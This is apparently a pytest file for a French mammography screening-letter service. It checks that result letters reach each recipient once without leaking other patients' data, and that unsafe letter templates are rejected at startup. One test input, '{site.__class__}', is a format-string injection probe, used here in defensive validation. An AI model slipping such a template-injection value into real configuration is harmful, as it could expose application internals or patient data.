            "gp": "dr.lebrun@cabinet-lebrun.mssante.fr",
        },
    },
    "claire": {
        "name": "DURAND^Claire",
        "id": "IPP-2002",
        "birth": "19580920",
        "recipients": {  # no GP: that letter is skipped
            "woman": "claire.durand@example.fr",
            "radiologist": "dr.bernard@ch-nord.mssante.fr",
        },
    },
}
CUSTOM_NEGATIVE = (
    "Madame, Docteur,\n\nMammographie du {exam_date} ({patient_name}) : {outcome}.\n"
    "{next_step}.\nLectures : {l1_date} et {l2_date} ; courrier du {letter_date}.\n"
)


def mammogram(woman: dict[str, Any], study: str, modality: str = "MG") -> bytes:
    def edit(ds: Dataset) -> None:
        ds.Modality = modality
        ds.PatientName = woman["name"]
        ds.PatientID = woman["id"]
        ds.PatientBirthDate = woman["birth"]
        ds.PatientSex = "F"
        ds.StudyDate = DAY0.strftime("%Y%m%d")
        ds.StudyDescription = "Mammographie de dépistage"
        code = Dataset()
        code.CodeValue = PROCEDURE
        code.CodingSchemeDesignator = "CCAM"
        code.CodeMeaning = "Mammographie bilatérale"
        ds.ProcedureCodeSequence = [code]

    return make_instance(edit, study=study)


@pytest.fixture
def mailed(
    tmp_path: Path,
    index_url: str,
    smtp_server: Callable[..., SmtpServer],  # noqa: F811
    pki: Any,  # noqa: F811
) -> Iterator[World]:
    smtp = smtp_server("starttls")
    settings = {
        "IMAG_PLUGINS_MESSAGING": "smtp",
        "IMAG_MESSAGING_SMTP_HOST": HOST,
        "IMAG_MESSAGING_SMTP_PORT": str(smtp.port),
        "IMAG_MESSAGING_SMTP_SECURITY": "starttls",
        "IMAG_MESSAGING_SMTP_CA_FILE": str(pki.ca),
        "IMAG_MESSAGING_SMTP_CLIENT_CERT": str(pki.client_cert),
        "IMAG_MESSAGING_SMTP_CLIENT_KEY": str(pki.client_key),
        "IMAG_MESSAGING_SMTP_TIMEOUT": "10",
        "IMAG_SCREENING_RULES": json.dumps(
            [{"name": "depistage", "site": "CH-*", "procedure_code": PROCEDURE}]
        ),
        "IMAG_SCREENING_LETTER_TEMPLATES": json.dumps({"NEGATIVE": CUSTOM_NEGATIVE}),
        "IMAG_STABLE_AFTER_SECONDS": "1",
    }
    clock = FakeClock(at(DAY0, 9))
    with open_world(tmp_path / "imag", index_url, clock, settings) as world:
        world.smtp = smtp
        world.accredit()
        yield world


def mail_text(data: bytes) -> tuple[str, str]:
    mail = message_from_bytes(data, policy=policy.default)
    return str(mail["Subject"]), mail.get_body(("plain",)).get_content().replace("\r\n", "\n")


def test_a_closed_exams_letters_reach_woman_radiologist_and_gp_once_in_french(
    mailed: World,
) -> None:
    world, archive = mailed, mailed.archive
    assert world.smtp is not None
    studies = {name: generate_uid() for name in WOMEN}
    for name, woman in WOMEN.items():
        for _ in range(2):  # two views of each
            result = archive.pipeline.ingest(
                mammogram(woman, studies[name]), Source(kind="import", site="CH-NORD")
            )
            assert result.ok, result.reason
    ct = archive.pipeline.ingest(  # not a screening exam
        mammogram(WOMEN["sophie"], generate_uid(), "CT"), Source(kind="import", site="CH-NORD")
    )
    assert ct.ok
    world.clock.advance(1.5)  # the studies become stable: the subscriber recognises them
    run_due(archive)
    run_due(archive)
    recognised = {r[0] for r in archive.db.query("SELECT study_uid FROM screening_exams")}
    assert recognised == set(studies.values())

    l1 = Principal("dr.arnaud", "radiologist", sites=("CH-NORD",))
    l2 = Principal("dr.henry", "screening_reader")
    verdicts = {"sophie": VERDICTS["l2_positive"], "claire": VERDICTS["l2_negative"]}
    world.clock.set(at(DAY0, 11))
    for name, woman in WOMEN.items():
        world.screening.record_l1(
            studies[name], l1, {**L1_NEGATIVE, "recipients": woman["recipients"]}
        )
    world.clock.set(at(DAY0 + timedelta(days=4), 15))  # the second readings, 6 March
    for name in WOMEN:
        _, held = world.screening.claim(studies[name], l2)
        world.screening.verdict(studies[name], l2, held.transaction_uid, verdicts[name])
    world.clock.set(at(DAY0 + timedelta(days=5), 8))  # the letters, 7 March
    before = world.last_audit()
    run_due(archive)

    received = world.smtp.mailbox.received
    assert sorted(r for m in received for r in m.recipients) == sorted(
        a for w in WOMEN.values() for a in w["recipients"].values()
    )
    assert all(len(m.recipients) == 1 for m in received)  # nobody sees another's address
    for name, woman in WOMEN.items():
        other = WOMEN["claire" if name == "sophie" else "sophie"]
        mine = [m for m in received if m.recipients[0] in woman["recipients"].values()]
        assert len(mine) == len(woman["recipients"])
        texts = {mail_text(m.data) for m in mine}
        assert len(texts) == 1  # the same letter to each of them
        subject, body = texts.pop()
        assert subject == (
            "Dépistage organisé du cancer du sein : résultat de la mammographie du 02/03/2026"
        )
        given, family = woman["name"].split("^")[1], woman["name"].split("^")[0]
        assert f"{given} {family}" in body
        for day in ("02/03/2026", "06/03/2026", "07/03/2026"):  # exam and L1, L2, letter
            assert day in body
        for leaked in (
            other["name"].split("^")[0],
            other["id"],
            studies["claire" if name == "sophie" else "sophie"],
            *other["recipients"].values(),
            woman["id"],  # her local ID neither: not needed in a letter
        ):
            assert leaked not in body and leaked not in subject
        if name == "sophie":
            assert "née le 12/05/1964" in body
            assert "image à explorer repérée à la seconde lecture" in body
            assert "bilan diagnostique différé" in body
            assert "échographie, biopsie" in body
        else:  # the configured template replaced the French default of NEGATIVE
            assert body.startswith("Madame, Docteur,\n\nMammographie du 02/03/2026 (Claire DURAND)")
            assert "sans anomalie à la première ni à la seconde lecture" in body
            assert "dans 2 ans" in body

    letters = [(s, d["recipient"], d["status"]) for s, _, d in world.audit("screening.letter")]
    assert sorted(letters) == sorted(
        [(studies["sophie"], r, "queued") for r in ("woman", "radiologist", "gp")]
        + [(studies["claire"], r, "queued") for r in ("woman", "radiologist")]
        + [(studies["claire"], "gp", "no address")]
    )
    assert world.last_audit() > before

    # the job again (its delivery is recorded: nothing), then the handler itself
    jobs = archive.db.query("SELECT payload FROM jobs WHERE kind = 'event:screening-letters'")
    assert len(jobs) == 2
    for (payload,) in jobs:
        JobQueue(archive.db).enqueue("event:screening-letters", json.loads(payload))
        event = Event(**json.loads(payload)["event"])
        assert send_letters(archive, event.study_uid or "") == []
    run_due(archive)
    world.clock.advance(3600)
    run_due(archive)
    assert len(world.smtp.mailbox.received) == 5
    assert len(world.audit("screening.letter")) == 6
    assert archive.db.scalar("SELECT count(*) FROM screening_letters") == 6


@pytest.mark.parametrize(
    ("env", "named"),
    [
        ({"IMAG_SCREENING_LETTER_TEMPLATES": json.dumps({"NEGATIVE": "{nir}"})}, "{nir}"),
        (
            {"IMAG_SCREENING_LETTER_TEMPLATES": json.dumps({"NEGATIVE": "{site.__class__}"})},
            "site.__class__",
        ),
        ({"IMAG_SCREENING_LETTER_TEMPLATES": json.dumps({"MAYBE": "x"})}, "MAYBE"),
        ({"IMAG_SCREENING_LETTER_SUBJECT": "Résultat {exam_date!r}"}, "exam_date"),
        ({"IMAG_SCREENING_LETTER_SUBJECT": "Résultat {"}, "letter subject"),
        ({"IMAG_SCREENING_COORDINATION_ADDRESS": "crcdc"}, "crcdc"),
    ],
)
def test_a_letter_template_naming_anything_else_is_refused_at_start(
    env: dict[str, str], named: str
) -> None:
    with pytest.raises(ConfigError, match="screening") as refused:
        load_config(env=env)
    assert named in str(refused.value)
